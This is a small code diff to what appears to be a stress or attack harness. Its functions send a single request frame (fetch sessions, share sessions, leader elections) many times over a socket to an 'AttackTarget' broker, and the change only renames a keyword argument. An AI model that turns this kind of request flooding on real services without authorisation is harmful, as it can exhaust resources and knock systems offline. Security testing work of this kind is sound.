@@ -54,7 +54,7 @@ def fetch_sessions(target: AttackTarget) -> int:
     )
     with target.socket() as connection:
         connection.settimeout(TIMEOUT_S)
-        exchange(connection, opening * SESSIONS, answers=SESSIONS)
+        exchange(connection, opening * SESSIONS, answer_count=SESSIONS)
     return SESSIONS * len(opening)
 
 
@@ -70,7 +70,7 @@ def share_sessions(target: AttackTarget) -> int:
     )
     with target.socket() as connection:
         connection.settimeout(2 * TIMEOUT_S)
-        exchange(connection, frame_bytes, answers=2 * SHARE_SESSIONS)
+        exchange(connection, frame_bytes, answer_count=2 * SHARE_SESSIONS)
     return len(frame_bytes)
 
 
@@ -89,7 +89,7 @@ def elections(target: AttackTarget) -> int:
     frame = request(ELECT_LEADERS, 2, election_type=0, topic_partitions=topics, timeout=30_000)
     with target.socket() as connection:
         connection.settimeout(TIMEOUT_S)
-        exchange(connection, frame * ELECTIONS, answers=ELECTIONS)
+        exchange(connection, frame * ELECTIONS, answer_count=ELECTIONS)
     return ELECTIONS * len(frame)
 
 
